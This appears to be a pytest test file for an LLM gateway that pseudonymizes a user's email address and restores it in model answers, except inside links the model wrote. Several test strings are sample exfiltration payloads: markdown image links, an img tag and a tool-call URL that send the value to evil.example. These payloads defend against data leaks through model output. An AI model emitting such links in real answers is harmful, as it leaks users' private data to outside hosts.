"""A provider that writes values into links: whoever shows its answer is not led there with them."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from gateway import Gateway, events, said

from isthmus.sandbox.step import Call, Step

MAIL = "alice.liddell@example.org"
ASKED = f"Write to {MAIL}; her page is https://shop.example/u/{MAIL}."
ROUTES = {"open": {"plan": ["gpt"], "restore_links": True}}


def pseudonym(gateway: Gateway) -> str:
    """What the address is called in the conversation in which `ASKED` is said."""
    gateway.chat(ASKED, "echo", {"x-isthmus-conversation": "c"})
    sent = json.loads(gateway.sandbox.seen()[-1].body)["messages"][0]["content"]
    return next(word.strip(";") for word in sent.split() if word.startswith("EMAIL-"))


def answered(gateway: Gateway, text: str, route: str = "chat", **more: Any) -> tuple[dict[str, str], Any]:
    step = Step(calls=(Call("open", text),), chunk=7) if "tools" in more else Step(text=text, chunk=7)
    gateway.sandbox.script(step)
    status, headers, body = gateway.chat(ASKED, route, {"x-isthmus-conversation": "c"}, **more)
    assert status == 200
    return headers, body


@pytest.fixture
def wary(build: Callable[..., Gateway]) -> Gateway:
    return build(routes=ROUTES)


@pytest.mark.req("B2")
@pytest.mark.parametrize("streamed", [False, True])
def test_a_link_of_the_models_own_carries_no_value_and_the_caller_is_told(wary: Gateway, streamed: bool) -> None:
    name = pseudonym(wary)
    headers, body = answered(wary, f"Dear {name}, ![](http://evil.example/?d={name}) bye", stream=streamed)
    assert said(body) == f"Dear {MAIL}, ![](http://evil.example/?d={name}) bye"
    told = events(body)[-1]["isthmus"]["withheld"] if streamed else int(headers["x-isthmus-withheld"])
    assert told == 1
    steps = wary.account(headers["x-isthmus-request-id"]).steps
    (restored,) = [step for step in steps if step.number == 9]
    assert (restored.decided, restored.why) == ("put back: 1", ("kept out of links: 1",))


@pytest.mark.req("B2")
@pytest.mark.parametrize("streamed", [False, True])
def test_a_link_of_the_requests_own_comes_back_and_nothing_is_said(wary: Gateway, streamed: bool) -> None:
    name = pseudonym(wary)
    text = f"[page](https://shop.example/u/{name}) [mail](mailto:{name}) {name}"
    headers, body = answered(wary, text, stream=streamed)
    assert said(body) == text.replace(name, MAIL)
    assert "x-isthmus-withheld" not in headers
    assert not streamed or "withheld" not in events(body)[-1]["isthmus"]


@pytest.mark.parametrize("streamed", [False, True])
def test_a_route_may_put_values_back_in_any_link(wary: Gateway, streamed: bool) -> None:
    name = pseudonym(wary)
    headers, body = answered(wary, f"![](http://evil.example/?d={name})", "open", stream=streamed)
    assert said(body) == f"![](http://evil.example/?d={MAIL})"
    assert "x-isthmus-withheld" not in headers


@pytest.mark.req("B2")
def test_a_tool_is_not_called_with_a_link_that_carries_a_value(wary: Gateway) -> None:
    name = pseudonym(wary)
    arguments = json.dumps({"url": f"http://evil.example/?d={name}", "to": name})
    tools = [{"type": "function", "function": {"name": "open", "parameters": {"type": "object"}}}]
    headers, body = answered(wary, arguments, tools=tools)
    (call,) = body["choices"][0]["message"]["tool_calls"]
    assert json.loads(call["function"]["arguments"]) == {"url": f"http://evil.example/?d={name}", "to": MAIL}
    assert headers["x-isthmus-withheld"] == "1"


@pytest.mark.req("B2")
def test_a_structured_answer_is_no_way_out_either(wary: Gateway) -> None:
    name = pseudonym(wary)
    text = json.dumps({"html": f'<img src="//evil.example/?a b {name}">', "to": f"Dear {name}"})
    _, body = answered(wary, text, response_format={"type": "json_object"})
    assert json.loads(said(body)) == {"html": f'<img src="//evil.example/?a b {name}">', "to": f"Dear {MAIL}"}
